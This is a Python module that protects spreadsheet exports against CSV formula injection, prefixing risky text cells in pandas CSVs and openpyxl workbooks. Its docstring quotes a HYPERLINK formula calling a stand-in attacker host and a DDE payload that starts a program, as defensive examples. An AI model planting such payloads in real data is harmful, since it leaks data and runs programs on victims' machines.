"""Exported cells that a spreadsheet can never run (OWASP CSV injection).

A complaint field such as ``=HYPERLINK("http://evil.example/x","点我")`` becomes a live formula
when the weekly workbook or a ledger CSV is opened in Excel or WPS: a click sends data away, and
DDE payloads (``=cmd|' /C calc'!A0``) start programs. Text beginning with ``=``, ``+``, ``-``,
``@``, tab or carriage return is therefore written as text with a leading ``'`` in CSV, and as
a string cell with Excel's quote-prefix style in workbooks. Numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def risky(value: Any) -> bool:
    """Text a spreadsheet would read as a formula (leading spaces are skipped by Excel too)."""
    return isinstance(value, str) and value.lstrip(" ").startswith(TRIGGERS)


def csv_cell(value: Any) -> Any:
    """The value for a CSV cell: risky text gets a leading ``'``; anything else as it is."""
    return "'" + value if risky(value) else value


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text columns are safe to open in a spreadsheet."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(csv_cell)
    return out


def append_row(ws: Worksheet, values: list[Any]) -> None:
    """``ws.append`` for outside values: risky text is stored as a string, never a formula.

    openpyxl turns any string beginning with ``=`` into a formula cell; the cell is rewritten as
    a string with ``quotePrefix`` so that editing it in Excel does not turn it into one either.
    """
    ws.append(values)
    row = ws.max_row
    for col, value in enumerate(values, start=1):
        if risky(value):
            cell = ws.cell(row=row, column=col)
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
